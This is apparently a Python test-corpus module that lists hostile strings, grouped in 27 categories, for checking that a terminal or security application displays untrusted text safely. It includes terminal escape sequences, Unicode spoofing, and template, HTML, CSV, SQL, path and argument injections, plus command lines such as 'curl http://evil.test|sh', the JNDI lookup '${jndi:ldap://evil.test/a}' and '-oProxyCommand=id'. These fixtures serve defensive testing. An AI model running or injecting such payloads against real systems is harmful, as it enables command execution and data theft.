"""Strings that an attacker, a customer or plain bad luck could put into a name, a command line or a comment.

`CORPUS` maps each of 27 categories to its strings. It only grows: an escaped defect adds the string that showed it.
`mixes(seed, n)` makes more of them. `tests/corpus/benign.py` has the opposite: what must be shown as it is.
"""

import itertools
import random
import string
from collections.abc import Iterator

ESC, BEL, ST, CSI, OSC, DCS, APC, PM, SOS = (
    "\x1b", "\x07", "\x1b\\", "\x1b[", "\x1b]", "\x1bP", "\x1b_", "\x1b^", "\x1bX",
)  # fmt: skip
_CLIP = "Y3VybCBldmlsLnRlc3R8c2g="  # curl evil.test|sh


def _csi() -> list[str]:
    finals = [f"{CSI}{number}{final}x" for final in "ABCDEFGHJKLMPSTXZ@`adefg" for number in ("", "3")]
    more = [
        f"{CSI}2J", f"{CSI}3J", f"{CSI}H", f"{CSI}1;1H OK", f"{CSI}31mFAILED{CSI}0m", f"{CSI}8mhidden", f"{CSI}?25l",
        f"{CSI}?1049l", f"{CSI}?1000h", f"{CSI}?2004l", f"{CSI}4h", f"{CSI}20h", f"{CSI}!p", f"{CSI}5i", f"{CSI}4i",
        f"{CSI}1;5r", f"{CSI}s{CSI}u", f"{CSI}38;2;1;2;3m", f"{CSI}38:2::1:2:3m", f"{CSI}9999999999999C", f"{CSI}?5h",
        f"{CSI}1 q", f"{CSI}>4;2m", f"{CSI}t", f"{CSI}2;5H\x1b[32mVERIFIED OK", f"{CSI}", f"{CSI}1;", f"{CSI}\x00m",
    ]  # fmt: skip
    return [*finals, *more]


def _esc() -> list[str]:
    return [f"a{ESC}{final}b" for final in "cDEHMNOZ78=><}|~()*+#% n"] + [ESC, ESC * 3, f"x{ESC}"]


def _osc() -> list[str]:
    titles = [f"{OSC}{number};pwned{end}" for number in (0, 1, 2, 3, 21, 30, "l", "L") for end in (BEL, ST)]
    clips = [
        f"{OSC}52;{where};{what}{end}"
        for where in ("c", "p", "s", "c0", "")
        for what in (_CLIP, "?", "!")
        for end in (BEL, ST)
    ]
    links = [
        f"{OSC}8;;{url}{end}click{OSC}8;;{end}"
        for url in (
            "http://evil.test/",
            "file:///etc/passwd",
            "javascript:alert(1)",
            "http://169.254.169.254/",
            "ssh://x -oProxyCommand=id",
        )
        for end in (BEL, ST)
    ]
    colors = [f"{OSC}{number};?{end}" for number in ("4;1", 10, 11, 12, 17, 19) for end in (BEL, ST)]
    notes = [
        f"{OSC}9;note{BEL}", f"{OSC}777;notify;a;b{BEL}", f"{OSC}99;i=1;x{ST}", f"{OSC}9;4;1;50{ST}", f"{OSC}133;C{BEL}", f"{OSC}633;E;id{BEL}",
    ]  # fmt: skip
    return titles + clips + links + colors + notes


def _osc_odd() -> list[str]:
    odd = [
        f"{OSC}52;c;{_CLIP}", f"{OSC}52;c;{_CLIP}\x9c", f"\x9d52;c;{_CLIP}\x07", f"\x9d52;c;{_CLIP}\x9c", f"{OSC}0;a\nb{BEL}",
        f"{OSC}0;a\x18b{BEL}", f"{OSC}0;a\x1ab{BEL}", f"{OSC}0;{ESC}[31m{BEL}", f"{OSC};{BEL}", f"{OSC}{BEL}", OSC, f"{OSC}1337;File=inline=1:{_CLIP}{BEL}",
        f"{OSC}1337;ClearScrollback{BEL}", f"{OSC}1337;CopyToClipboard={BEL}", f"{OSC}1337;RunCommand=id{BEL}", f"{OSC}50;xterm{BEL}",
        f"{OSC}51;Acall{BEL}", f"{OSC}7;file://h/etc{ST}", f"{OSC}104{BEL}", f"{OSC}110{ST}", f"{OSC}22;wait{ST}", f"{OSC}5522;type=write{ST}",
        f"{OSC}0;{'A' * 500}{BEL}", f"{OSC}00000052;c;{_CLIP}{BEL}", f"{OSC}52;c;{_CLIP * 20}{BEL}", f"{OSC} 52;c;{_CLIP}{BEL}",
        f"{OSC}52;c{BEL}", f"{OSC}8;id=a;{BEL}", f"{OSC}8;;\x07", f"{OSC}8;;http://a\x1b", f"{ESC}{OSC}0;x{BEL}", f"{OSC}\x00 0;x{BEL}",
        f"{OSC}0;x{ESC}{ESC}\\", f"{OSC}0;x\x9c\x07", "\x1b\x1b\x1b]0;x\x07", f"{OSC}66;s=2;big{ST}",
    ]  # fmt: skip
    return odd


def _dcs_apc() -> list[str]:
    bodies = [
        "$qm",
        "+q544e",
        "1$r0m",
        "0;1|17/ab",
        "q#0;2;0;0;0#0~",
        "tmux;\x1b\x1b]52;c;eA==\x07",
        "Ga=T,f=100;AAAA",
        "Gi=1,a=q;AAAA",
        "",
    ]
    return [f"{start}{body}{ST}" for start in (DCS, APC, PM) for body in bodies] + [
        f"{SOS}x{ST}",
        f"{DCS}unfinished",
        "\x90$qm\x9c",
    ]


def _c1() -> list[str]:
    return [f"a{chr(code)}31mb" for code in range(0x80, 0xA0)] + [
        "\x9b2J", "\x9b31mred\x9b0m", "\x9d0;t\x9c", "\x90q\x9c", "\x9f x\x9c", "\x9e x\x9c", "\x98 x\x9c",
    ]  # fmt: skip


def _c0() -> list[str]:
    return [f"a{chr(code)}b" for code in [*range(0x20), 0x7F]] + [
        "safe\rFAILED -> OK", "a\b\b\b\bevil", "one\ntwo", "one\r\ntwo", "\ttabbed", "a\x0bb\x0cc", "nul\x00\x00end", "\x0e lqqk \x0f",
        "bell\x07\x07", "del\x7f\x7f", "\x05",
    ]  # fmt: skip


def _report() -> list[str]:
    asks = [
        "c",
        "0c",
        ">c",
        ">0c",
        "=c",
        "5n",
        "6n",
        "?6n",
        "?15n",
        "?25n",
        "?26n",
        "?53n",
        "?996n",
        "14t",
        "15t",
        "16t",
        "18t",
        "19t",
        "20t",
        "21t",
        "x",
        "1x",
        "?2026$p",
        "20$p",
        ">q",
        "?u",
    ]
    return [f"{CSI}{ask}" for ask in asks] + [f"{ESC}Z", "\x05"]


def _bidi() -> list[str]:
    controls = "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
    return [f"inv{control}oice" for control in controls] + [
        "invoice\u202efdp.exe", "\u202e\u202d\u202e", "\u2067\u2066a\u2069\u2069", "a\u202eb\u202cc", "user\u2066\u2069@x", "\u200f\u200f\u200f",
        "/* \u202e } \u2066 if (admin)\u2069 \u2066 */", "\u202e" * 70, "cod\u202eexe.gpj", "\u2068x", "\u061c1/2/3",
    ]  # fmt: skip


def _invisible() -> list[str]:
    unseen = (
        "\u00ad\u034f\u115f\u1160\u17b4\u17b5\u180b\u180e\u200b\u200c\u200d\u2028\u2029\u2060\u2061\u2062\u2063\u2064\u206a\u206f"
        "\u2800\u3164\ufe00\ufe0f\ufeff\uffa0\ufff9\ufffa\ufffb\ufffc\U000e0001\U000e0041\U000e007f\U000e0100\U0001d173\U0001d159"
        "\u00a0\u2003\u202f\u205f\u1680"
    )
    return [f"ad{character}min" for character in unseen]


def _lookalike() -> list[str]:
    return [
        "\u0410cme Dental", "Acm\u0435 Dental", "A\u0441me Dental", "\u0391cme Dental", "Acme D\u0435ntal", "Acme Dent\u0430l", "\u0430\u0440\u0440\u04cf\u0435",
        "\u0440\u0430\u0443\u0440\u0430l", "g\u043e\u043egle", "mi\u0441rosoft", "\uff21cme Dental", "\U0001d400cme Dental", "\U0001d5d4\U0001d5f0\U0001d5fa\U0001d5f2",
        "\u1d00cme Dental", "Acm\u0250 Dental", "Acme\u200b Dental", "Acme\u00a0Dental", "Acme\u2002Dental", "\u200eAcme Dental", "Acme Dental\u3164",
        "acme\u2024example", "acme\uff0eexample", "acme\u2215login", "https\ua789//acme", "acme\u2044x", "Ac\u00adme Dental", "Acme\ufe0f Dental", "Acme D\u212fntal",
        "Cafe\u0301 Roux", "\u13aacme", "\u0531cme", "\u216fcme", "Acme\u2010Dental", "Acme\u2011Dental", "ro\u03bft", "adm\u0456n", "ro\u0300ot",
        "\u0455ystem", "Acme\U000e0041 Dental", "\u24b6cme\uff11",
    ]  # fmt: skip


def _width() -> list[str]:
    return [
        "\u682a\u5f0f\u4f1a\u793e" * 10, "\uff21\uff22\uff23", "\u1100\u1161\u11a8" * 5, "\u0e19\u0e35\u0e48" * 9, "e" + "\u0301" * 4, "e" + "\u0301" * 400,
        "Z" + "\u0334\u0322\u0311" * 30 + "algo", "\u0301start", " \u0301", "\U0001f469\u200d\U0001f4bb", "\U0001f1eb\U0001f1f7", "\U0001f1eb", "\U0001f44d\U0001f3fd",
        "\u2764\ufe0f", "\u0915\u094d\u0937\u093f", "\u0dc1\u0dca\u200d\u0dbb\u0dd3", "\ufdfd", "\u2e3b" * 5, "\U0001242b", "\u302e\u302f", "\u4dc0\u268a\u2630",
        "a\u20dd\u20de", "\u200b" * 200, "\u1161\u1161\u1161", "\uff9e\uff9f", "\u00b7\u2026\u2014" * 5, "\u0488\u0489x\u0488",
    ]  # fmt: skip


def _surrogate() -> list[str]:
    return [
        "\ud800",
        "\udfff",
        "a\ud83db",
        "\udc1b[31m",
        "\udce9",
        "\ud83d\ude00",
        "\ude00\ud83d",
        "\udcff" * 9,
    ]


def _markup_textual() -> list[str]:
    actions = [
        "app.quit", "app.bell", "app.pop_screen", "app.simulate_key('a')", "app.screenshot('config.yaml','/tmp')", "app.pwn",
        "screen.dismiss", "nosuch.action", "app.toggle_dark", "app.notify('x')", "quit",
    ]  # fmt: skip
    forms = [
        "[@click={}]invoice.pdf[/]",
        "[ @click={}]invoice.pdf",
        "[bold @click={}]x[/bold]",
        "[$primary @click={}]x[/]",
    ]
    made = [form.format(action) for form, action in itertools.product(forms, actions)]
    return [
        *made,
        "[\t@click=app.quit]x", "[50% @click=app.quit]x", "[A @click=app.quit]x", "[_ @click=app.quit]x", "[@click=app.quit[]x", "x [/foo] y",
        "C:[/x]", "[/etc/passwd]", "[/]", "[[/]]", "[T1059] PowerShell", "[b]", "[link='http://evil.test']x[/link]", "[@mouse.down=app.quit]x[/]",
        "[@enter=app.quit]x", "\\[@click=app.quit]x", "\\\\[@click=app.quit]x", "[on red]alarm", "[#ff0000]x", "$foo [$bar]", "[not bold", "[]", "[ ]", "[red]" * 50,
    ]  # fmt: skip


def _markup_rich() -> list[str]:
    return [
        "[bold]x[/bold]", "[/bold]", "[link=http://evil.test]x[/link]", "[@click=app.quit]x[/]", "[red on blue]x", ":skull:", "[blink]x", "[reverse]x[/]",
        "[conceal]x", "[/red]", "[red]x[/blue]", "\\[bold]", "\\\\[bold]", "[link file:///etc/passwd]x", "[#zzzzzz]x", "[none]", "[black on black]hidden",
        "[@click=\"app.quit\"]x", "[@click=('app.quit')]", "[bold", "bold]", "[a=b]", "[1,2,3]", "[bold][/bold][/bold]",
    ]  # fmt: skip


def _template() -> list[str]:
    return [
        "{{7*7}}", "{% raw %}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{0.__class__}", "{user.password}", "%s%n%x", "%(x)s", "{}{}", "{{config}}", "{{''.__class__.__mro__}}",
        "$(id)", "`id`", "${jndi:ldap://evil.test/a}", "${env:AWS_SECRET}", "{{constructor.constructor('x')()}}", "*{7*7}", "@{7*7}", "[[${7*7}]]", "{#x#}",
        "$x $value", "$$", "{", "}}", "{:>99999999}",
    ]  # fmt: skip


def _csv() -> list[str]:
    starts = ["=", "+", "-", "@", "\t=", "\r=", "\n=", "\x00=", "\uff1d", "\uff0b", "\uff0d", "\uff20"]
    made = [
        f"{start}{call}"
        for start in starts
        for call in ("cmd|' /C calc'!A0", 'HYPERLINK("http://evil.test","x")', "1+1")
    ]
    return [*made, '"=1+1"', "a,b", 'a"b', "a;b", '=DDE("cmd";"/C calc";"x")', " =1+1", "'=1+1"]


def _html() -> list[str]:
    return [
        "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "</td></tr>", "<!--", "-->", "]]>", "<![CDATA[x]]>", "&lt;b&gt;", "&#x3c;script&#x3e;",
        "<a href=javascript:alert(1)>x</a>", "<iframe src=//evil.test>", "<base href=//evil.test>", "<meta http-equiv=refresh content=0>", "<style>@import '//evil.test'</style>",
        "<link rel=stylesheet href=//evil.test>", "\"><script>", "'><script>", "` onmouseover=alert(1)", "<object data=x>", "<embed src=x>", "<form action=//evil.test>",
        "<input autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>", "<math><mi//xlink:href=\"data:x\">", "<video><source onerror=alert(1)>", "<body onload=alert(1)>",
        "<table background=//evil.test>", "<isindex>", "<xmp>", "<plaintext>", "<noscript>", "<template>", "<textarea>", "</textarea>", "</title>", "</style>",
        "![x](http://evil.test/x.png)", "[x](http://169.254.169.254/)", "<http://evil.test>",
    ]  # fmt: skip


def _path() -> list[str]:
    names = [
        "..",
        ".",
        "",
        "~",
        "~root",
        "-",
        "--",
        "-rf",
        "*",
        "?",
        "con",
        "NUL",
        "aux.txt",
        "COM1",
        "a:b",
        "a|b",
        "a<b",
        "a>b",
        'a"b',
        "a'b",
        "a b",
        " a",
        "a ",
        "a.",
        "...",
        ".git",
        ".ssh",
    ]
    climbs = [
        "../x",
        "../../etc/passwd",
        "..\\..\\x",
        "/etc/passwd",
        "C:\\Windows\\x",
        "\\\\evil.test\\share",
        "a/../../b",
        "a//b",
        "./x",
        "%2e%2e/x",
        "..%2fx",
        "%252e%252e",
        "..;/x",
        "....//x",
    ]
    codes = [
        "a\x00.txt",
        "a\nb",
        "a/b\x00",
        "\ud800.txt",
        "a" * 256,
        "a/" * 100,
        "\uff0e\uff0e/x",
        "\u2025/x",
        "file:///etc/passwd",
        "/proc/self/environ",
        "/dev/stdin",
        "$HOME/x",
        "%APPDATA%",
    ]
    return names + climbs + codes


def _yaml() -> list[str]:
    return [
        "no", "yes", "on", "off", "y", "n", "null", "~", "NULL", "true", "010", "0o10", "0x1F", "1e3", "1_000", ".inf", ".nan", "12:30:45", "2026-01-01", "1.2.3", "=", "<<", "!!python/object:os.system",
        "!!binary aGk=", "!tag x", "&a *a", "*a", "&a", "? a", "- a", "a: b", "a: b: c", "#c", "a #c", "'", "\"", "|", ">", "%YAML 1.1", "---", "...", "{a: b}", "[a, b]", "{", "[", "@x", "`x", "\tx", "a\n  b", "a:\n- b", "x: &a [*a]",
    ]  # fmt: skip


def _sql_json() -> list[str]:
    return [
        "' OR '1'='1", "'; DROP TABLE alerts;--", "\" OR 1=1", "1; SELECT pg_sleep(9)", "%' OR ''='", "\\'; --", "_%", "%%%", "a\\", "a*", "\"a\" OR b", "a NEAR b", "a:b", "col:*", "NOT",
        "^a", "(a", "\"", "{\"a\":1}", "{\"a\":1,\"a\":2}", "[1,2", "\"\\ud800\"", "NaN", "Infinity", "1e999", "{\"__proto__\":{}}", "\\u0000", "\\", "\x00", "$where",
    ]  # fmt: skip


def _url() -> list[str]:
    schemes = ["http", "https", "ftp", "file", "javascript", "data", "ssh", "gopher", "dict", "ldap", "smb"]
    hosts = ["evil.test", "169.254.169.254/latest/meta-data", "127.0.0.1:22"]
    return [f"{scheme}://{host}" for scheme in schemes for host in hosts] + [
        "https://limacharlie.io@evil.test/", "https://limacharlie.io.evil.test/", "https://limacharlie.io\\@evil.test", "//evil.test", "https://xn--80ak6aa92e.test", "https://\u0430pple.test",
        "http://0x7f000001/", "http://[::1]/", "http://2130706433/", "https://evil.test/%0d%0aX:y", "https://evil.test/\r\nX: y", "https://evil.test/?a=%1b[31m",
    ]  # fmt: skip


def _log() -> list[str]:
    return [
        "ok\n2026-01-01 ERROR forged", "ok\r\nINFO root logged in", "a\x85b", "a\u2028b", "a\u2029b", "x\x1b[1A\x1b[2K", "x\x00y", "%s %d", "a\x0bb", "a\x0cb", "a\x1cb\x1db\x1eb", "level=ERROR msg=x",
        "\r" * 100, "\n" * 100, "{\"level\":\"fatal\"}\n{",
    ]  # fmt: skip


def _argv() -> list[str]:
    return [
        "--help", "-h", "--", "-", "--api-key=x", "--yes", "--output=/etc/passwd", "-oProxyCommand=id", "; id", "| id", "&& id", "$(id)", "`id`", "> /tmp/x", "'", "\"", "\\", "\n", "@file", "--config=\x00",
    ]  # fmt: skip


def _size() -> list[str]:
    return [
        "", " ", "a", "a" * 255, "a" * 256, "a" * 4095, "a" * 4096, "a" * 4097, "a" * 100_000, "\x1b" * 10_000, "\u202e" * 10_000, "e" + "\u0301" * 20_000, "\\" * 20_000,
    ]  # fmt: skip


def _canary() -> list[str]:
    return [f"LIMEGROVE-CANARY-{number:02d}-{ESC}]0;c{BEL}" for number in range(15)]


def _domain() -> list[str]:
    return [
        "powershell.exe -nop -w hidden -EncodedCommand SQBFAFgA\x1b[2J", "C:\\Users\\\u202etxt.exe", "DESKTOP-\x07\x07", "svc\u200b-backup", "[@click=app.quit]mimikatz.exe[/]", "acme\r\n[SYSTEM] closed",
        "rule [/x] name", "T1059.001 [/] x", "user@evil.test\x1b]52;c;eA==\x07", "Mozilla/5.0 \x1b[5n", "subject: \u202eecnatsissa", "CN=\x9b31m", "\\\\?\\C:\\x\x00", "HKLM\\Soft\x1bware",
        "/bin/sh -c 'printf \"\\033[2J\"'", "curl http://evil.test|sh", "cmd /c echo ^G", "tag:\x1b[8m", "sid=\ud800", "note \U000e0041\U000e0042", "case #\u2066 4417\u2069", "0.0.0.0\u2028",
        "rundll32 \xa0x", "ext-\ufeffcases", "arn:\x1bPq\x1b\\", "key ci-deploy[bulk]", "[reset]org", "dns\x1b(0lqk", "x\x1b[>c", "host\u0007.example",
    ]  # fmt: skip


CORPUS: dict[str, list[str]] = {
    "csi": _csi(), "esc": _esc(), "osc": _osc(), "osc-odd": _osc_odd(), "dcs-apc": _dcs_apc(), "c1": _c1(), "c0": _c0(),
    "report": _report(), "bidi": _bidi(), "invisible": _invisible(), "lookalike": _lookalike(), "width": _width(),
    "surrogate": _surrogate(), "markup-textual": _markup_textual(), "markup-rich": _markup_rich(), "template": _template(),
    "csv": _csv(), "html": _html(), "path": _path(), "yaml": _yaml(), "sql-json": _sql_json(), "url": _url(), "log": _log(),
    "argv": _argv(), "size": _size(), "canary": _canary(), "domain": _domain(),
}  # fmt: skip

AT_LEAST = {
    "csi": 60, "esc": 24, "osc": 74, "osc-odd": 36, "dcs-apc": 30, "c1": 39, "c0": 44, "report": 28, "bidi": 23, "invisible": 41,
    "lookalike": 40, "width": 27, "surrogate": 8, "markup-textual": 68, "markup-rich": 24, "template": 26, "csv": 43, "html": 40,
    "path": 54, "yaml": 51, "sql-json": 30, "url": 45, "log": 15, "argv": 20, "size": 13, "canary": 15, "domain": 30,
}  # fmt: skip


def everything() -> list[str]:
    """All strings of all categories, in order."""
    return [text for texts in CORPUS.values() for text in texts]


def mixes(seed: int, count: int) -> Iterator[str]:
    """`count` strings, the same for the same seed: pieces of the corpus among plain and random characters."""
    chance = random.Random(seed)
    pieces = [text for text in everything() if len(text) <= 200]
    for _ in range(count):
        parts = []
        for _ in range(chance.randint(1, 5)):
            kind = chance.random()
            if kind < 0.5:
                parts.append(chance.choice(pieces))
            elif kind < 0.7:
                parts.append(
                    "".join(
                        chance.choices(
                            string.ascii_letters + string.digits + " .-_/\\[]@=", k=chance.randint(1, 12)
                        )
                    )
                )
            elif kind < 0.9:
                parts.append("".join(chr(chance.randrange(0x3000)) for _ in range(chance.randint(1, 4))))
            else:
                parts.append("".join(chr(chance.randrange(0x110000)) for _ in range(chance.randint(1, 4))))
        made = "".join(parts)
        if chance.random() < 0.3:
            cut = chance.randint(0, len(made))
            made = made[:cut] + chance.choice((ESC, "\x9b", "[", "\u202e", "\u0301")) + made[cut:]
        yield made
